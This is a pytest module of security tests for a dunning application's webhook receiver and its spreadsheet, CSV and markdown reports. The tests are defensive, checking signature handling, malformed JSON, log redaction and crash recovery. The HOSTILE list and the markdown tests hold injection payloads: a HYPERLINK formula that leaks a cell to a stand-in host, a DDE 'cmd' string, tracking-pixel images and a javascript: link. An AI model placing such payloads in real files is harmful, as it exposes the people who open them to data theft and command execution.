"""Attacks on the webhook receiver and on the files the project writes (issue 16), each
reproduced first and now harmless. The receiver runs as `dunning webhooks serve` under a
real uvicorn on loopback (as in tests/test_webhooks.py), with a real ledger.

The desk's attacks are in tests/desk/test_desk_security.py; the table of all of them is in
docs/security.md.
"""

from __future__ import annotations

import csv as csv_module
import io
import json
import re
import time
from collections.abc import Iterator

import httpx
import openpyxl
import pandas as pd
import pytest

from apps.mailsink import free_port
from dunning.exports import safe_frame, write_csv
from dunning.inbound.effects import store_event
from dunning.inbound.providers import whatsapp_events
from dunning.inbound.verify import hmac_hex, stripe_header
from dunning.ledger import InboundMessage, Ledger, WebhookEvent
from tests.test_webhooks import SECRETS, Receiver, meta_headers, sample

#: Nobody listens there: events stay in the ledger (the emitter's retries are harmless).
NO_PREFECT = f"http://127.0.0.1:{free_port('127.0.0.1')}/api"
STRIPE = SECRETS["DUNNING_STRIPE_WEBHOOK_SECRET"]
ERP = SECRETS["DUNNING_ERP_WEBHOOK_SECRET"]


@pytest.fixture(scope="module")
def ledger_url(tmp_path_factory) -> str:
    return f"sqlite:///{tmp_path_factory.mktemp('sec') / 'ledger.db'}"


@pytest.fixture(scope="module")
def receiver(ledger_url, tmp_path_factory) -> Iterator[Receiver]:
    r = Receiver(ledger_url, NO_PREFECT, tmp_path_factory.mktemp("log") / "receiver.log")
    yield r
    r.stop()


def _rows(ledger_url: str) -> int:
    return len(Ledger(ledger_url).frame(WebhookEvent))


def _stripe_event(event_id: str, data: object) -> bytes:
    return json.dumps({"id": event_id, "object": "event", "type": "invoice.paid", "data": data})


# -- 11: odd signature headers and odd signed bodies ------------------------------------------


def test_non_ascii_signature_headers_are_401_not_500(receiver, ledger_url):
    body = sample("text_message", "wamid.NONASCII")
    erp = json.dumps({"id": "e-na", "type": "invoice.paid", "invoice": {"invoice_number": "X"}})
    calls = [
        ("/webhooks/whatsapp", body, "X-Hub-Signature-256", b"sha256=\xff\xfe" + b"a" * 62),
        ("/webhooks/erp", erp.encode(), "X-Dunning-Signature", "sha256=é".encode("latin-1")),
        ("/webhooks/stripe", b"{}", "Stripe-Signature", b"t=1700000000,v1=\xe9\xe9"),
    ]
    before = _rows(ledger_url)
    for path, payload, header, value in calls:
        answer = httpx.post(
            f"{receiver.url}{path}", content=payload, headers={header: value}, timeout=10
        )
        assert answer.status_code == 401, (path, answer.status_code, answer.text)
    assert _rows(ledger_url) == before


def _deep(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


@pytest.mark.parametrize(
    "case",
    [
        "deep_json_whatsapp",
        "deep_json_erp",
        "deep_inside_an_event",
        "stripe_data_as_list",
        "stripe_object_as_string",
        "whatsapp_timestamp_1e20",
        "whatsapp_timestamp_float_1e20",
        "whatsapp_context_as_list",
        "whatsapp_text_as_string",
        "whatsapp_profile_as_list",
        "whatsapp_status_timestamp_1e20",
    ],
)
def test_signed_but_odd_bodies_are_400_and_nothing_is_stored(receiver, ledger_url, case):
    doc = json.loads(sample("text_message", f"wamid.ODD-{case}"))
    value = doc["entry"][0]["changes"][0]["value"]
    message = value["messages"][0]
    path = "/webhooks/whatsapp"
    if case == "deep_json_whatsapp":
        body = _deep(100_000)
    elif case == "deep_json_erp":
        path, body = "/webhooks/erp", _deep(100_000)
    elif case == "deep_inside_an_event":
        message["text"] = json.loads(_deep(200))  # valid JSON, absurd nesting
        body = json.dumps(doc).encode()
    elif case == "stripe_data_as_list":
        path, body = "/webhooks/stripe", _stripe_event("evt_list", [1, 2]).encode()
    elif case == "stripe_object_as_string":
        path, body = "/webhooks/stripe", _stripe_event("evt_str", {"object": "x"}).encode()
    elif case == "whatsapp_timestamp_1e20":
        message["timestamp"] = "100000000000000000000"
    elif case == "whatsapp_timestamp_float_1e20":
        message["timestamp"] = 1e20
    elif case == "whatsapp_context_as_list":
        message["context"] = ["wamid.X"]
    elif case == "whatsapp_text_as_string":
        message["text"] = "hello"
    elif case == "whatsapp_profile_as_list":
        value["contacts"][0]["profile"] = ["x"]
    elif case == "whatsapp_status_timestamp_1e20":
        status = json.loads(sample("status_delivered", "wamid.ODD-status"))
        status["entry"][0]["changes"][0]["value"]["statuses"][0]["timestamp"] = "1" + "0" * 20
        body = json.dumps(status).encode()
    if case.startswith("whatsapp_") and case != "whatsapp_status_timestamp_1e20":
        body = json.dumps(doc).encode()
    if path == "/webhooks/whatsapp":
        headers = meta_headers(body)
    elif path == "/webhooks/erp":
        headers = {"X-Dunning-Signature": f"sha256={hmac_hex(ERP, body)}"}
    else:
        headers = {"Stripe-Signature": stripe_header(body, STRIPE)}
    before = _rows(ledger_url)
    answer = receiver.post(path, body, headers)
    assert answer.status_code == 400, (case, answer.status_code, answer.text)
    assert _rows(ledger_url) == before
    assert receiver.post("/webhooks/whatsapp", b"{}", meta_headers(b"{}")).status_code == 400
    assert httpx.get(f"{receiver.url}/healthz").status_code == 200  # still serving


def test_a_stripe_signature_dated_far_ahead_is_refused(receiver, ledger_url):
    body = _stripe_event("evt_future", {"object": {"object": "invoice", "number": "F-9"}})
    before = _rows(ledger_url)
    for when in (10**20, int(time.time()) + 3600):
        headers = {"Stripe-Signature": stripe_header(body.encode(), STRIPE, timestamp=when)}
        answer = receiver.post("/webhooks/stripe", body.encode(), headers)
        assert answer.status_code == 401, (when, answer.text)
    assert _rows(ledger_url) == before


# -- 13: the verify token stays out of the access log -----------------------------------------


def test_the_whatsapp_verify_token_is_not_in_the_access_log(receiver):
    token = SECRETS["DUNNING_WHATSAPP_VERIFY_TOKEN"]
    for given in (token, "a-wrong-guess-123"):
        httpx.get(
            f"{receiver.url}/webhooks/whatsapp",
            params={"hub.mode": "subscribe", "hub.challenge": "42", "hub.verify_token": given},
        )
    deadline = time.monotonic() + 10
    log = ""
    while time.monotonic() < deadline and log.count("GET /webhooks/whatsapp") < 2:
        time.sleep(0.2)
        log = receiver.log.read_text()
    assert log.count("GET /webhooks/whatsapp") >= 2, log[-2000:]
    assert "hub.verify_token=[redacted]" in log
    assert token not in log and "a-wrong-guess-123" not in log


# -- 7: a crash between storing an event and applying it ----------------------------------------


class _Crash(BaseException):
    """The process dying between the two commits (nothing catches it)."""


def test_an_event_stored_before_a_crash_is_applied_on_retry_and_at_start(tmp_path, monkeypatch):
    import apps.webhooks.app as receiver_app

    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    ledger = Ledger(url)
    first = sample("text_message", "wamid.CRASH-1")
    second = sample("text_message", "wamid.CRASH-2")

    # The receiver's own store-then-apply path, killed right after the first commit.
    def crash(*args, **kwargs):
        raise _Crash

    monkeypatch.setattr(receiver_app, "apply_event", crash)
    for body in (first, second):
        with pytest.raises(_Crash):
            receiver_app._store_and_apply(ledger, whatsapp_events(json.loads(body)))
    monkeypatch.undo()
    assert set(ledger.frame(WebhookEvent)["state"]) == {"received"}
    assert ledger.frame(InboundMessage).empty  # the effect was lost with the crash

    # A third event stored by the same crash, then retried by the provider while running.
    (third,) = whatsapp_events(json.loads(sample("text_message", "wamid.CRASH-3")))
    store_event(ledger, third)

    r = Receiver(url, NO_PREFECT, tmp_path / "receiver.log")
    try:
        # At start, both crashed events were applied...
        inbox = set(ledger.frame(InboundMessage)["provider_id"])
        assert {"wamid.CRASH-1", "wamid.CRASH-2", "wamid.CRASH-3"} <= inbox
        # ...and a retry of an applied one is a duplicate again, not applied twice.
        again = r.post("/webhooks/whatsapp", first, meta_headers(first))
        assert again.json() == {"stored": 0, "duplicates": 1}
        assert len(ledger.frame(InboundMessage, provider_id="wamid.CRASH-1")) == 1
    finally:
        r.stop()
    assert "earlier run stored but not applied" in (tmp_path / "receiver.log").read_text()


def test_a_retry_applies_an_event_whose_effect_was_lost(receiver, ledger_url):
    ledger = Ledger(ledger_url)
    body = sample("text_message", "wamid.LOST-1")
    (incoming,) = whatsapp_events(json.loads(body))
    store_event(ledger, incoming)  # stored, then the process died: no effect
    assert ledger.frame(InboundMessage, provider_id="wamid.LOST-1").empty
    retry = receiver.post("/webhooks/whatsapp", body, meta_headers(body))
    assert retry.json() == {"stored": 1, "duplicates": 0}  # not "a duplicate" forever
    assert len(ledger.frame(InboundMessage, provider_id="wamid.LOST-1")) == 1
    (row,) = ledger.frame(WebhookEvent, event_id="wamid.LOST-1").to_dict("records")
    assert row["state"] in ("stored", "emitted")


# -- 5: formulas in the report's spreadsheets, images in its markdown ----------------------------

HOSTILE = [
    '=HYPERLINK("http://x/leak?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "![pixel](http://x/track.png) <img src=http://x/i.png> | [a](http://x)",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_report_files_hold_no_formula_and_no_markdown_image(tmp_path):
    from typer.testing import CliRunner

    from apps.cli import app

    rows = [
        {
            "invoice_number": f"H{n}",
            "customer_id": f"C{n}",
            "customer_name": name,
            "currency": "EUR",
            "amount_total": "100",
            "amount_due": "100",
            "issue_date": "2026-04-01",
            "due_date": "2026-05-01",
            "closed_date": "",
            "status": "open",
        }
        for n, name in enumerate(HOSTILE)
    ]
    # Not due yet: its days past due is a negative number, and must stay one.
    rows.append(dict(rows[0], invoice_number="H-cur", customer_name="Normal S.L.",
                     due_date="2026-07-20"))  # fmt: skip
    csv = tmp_path / "ar.csv"
    pd.DataFrame(rows).to_csv(csv, index=False)
    out = tmp_path / "report"
    args = ["report", "--invoices", str(csv), "--as-of", "2026-06-30", "--out", str(out),
            "--locale", "en_US"]  # fmt: skip
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output

    # XLSX: every hostile name is text (with OWASP's leading quote), no cell is a formula,
    # and the amounts are still numbers.
    book = openpyxl.load_workbook(out / "open-items-2026-06-30.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for name in HOSTILE[:-1]:
        assert "'" + name.strip() in texts, name  # the importer strips the tab
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    items = pd.read_excel(out / "open-items-2026-06-30.xlsx", sheet_name="Open items")
    assert pd.api.types.is_numeric_dtype(items["Outstanding"])
    assert items["Outstanding"].sum() == pytest.approx(100 * len(rows))
    assert pd.api.types.is_numeric_dtype(items["Days past due"])
    assert items["Days past due"].min() == -20

    # CSVs: no cell starts a formula.
    for path in sorted(out.glob("*.csv")):
        for record in csv_module.reader(io.StringIO(path.read_text())):
            bad = [cell for cell in record if cell.startswith(FORMULA_START)]
            assert not bad, (path.name, bad)
    top = pd.read_csv(out / "top-overdue.csv")
    assert "'=cmd|' /C calc'!A0" in set(top["customer_name"])

    # summary.md: the name is shown, but as text: no image, link or HTML.
    summary = (out / "summary.md").read_text()
    assert "![pixel](http://x/track.png)" not in summary
    assert not re.search(r"(?<!\\)<img", summary)  # only as escaped text
    assert "!\\[pixel\\](http://x/track.png) \\<img src=http://x/i.png\\> \\|" in summary
    assert summary.count("![") == 3  # our own three charts


def test_safe_frame_keeps_numbers_and_neutralises_text():
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "-x", "ok", None],
            "amount": [-12.5, 3.0, -0.0, 1.0],
            "count": [-1, 2, 3, 4],
            "mixed": [-5, "-5", "@x", 7.5],
        }
    )
    safe = safe_frame(frame)
    assert safe["name"].tolist()[:3] == ["'=1+1", "'-x", "ok"]
    assert safe["amount"].tolist() == [-12.5, 3.0, -0.0, 1.0]
    assert safe["amount"].dtype == frame["amount"].dtype and safe["count"].dtype == "int64"
    assert safe["mixed"].tolist() == [-5, "'-5", "'@x", 7.5]
    assert frame["name"].iloc[0] == "=1+1"  # the caller's frame is left as it was
    text = write_csv(frame)
    assert "-12.5" in text and "'=1+1" in text


def test_sweep_summary_artifact_escapes_markdown():
    from dunning.summary import SweepSummary, to_markdown

    summary = SweepSummary(
        now="2026-12-09T10:00:00",
        invoices=1,
        quarantined_rows=1,
        sent=0,
        tasks=0,
        failed=1,
        deferred=0,
        skipped={"<b>x</b>": 1},
        sync={},
        actions=[
            {
                "invoice": "![i](http://x/p.png)",
                "stage": "overdue_1",
                "status": "failed",
                "reason": "[click](javascript:alert(1))",
            }
        ],
        quarantine=["row 2: customer_name '![a](http://x/q.png)' | bad"],
    )
    markdown = to_markdown(summary)
    for raw in ("![i](", "[click](", "<b>", "![a]("):
        assert raw not in markdown
    assert "!\\[i\\](http://x/p.png)" in markdown and "\\<b\\>x\\</b\\>" in markdown
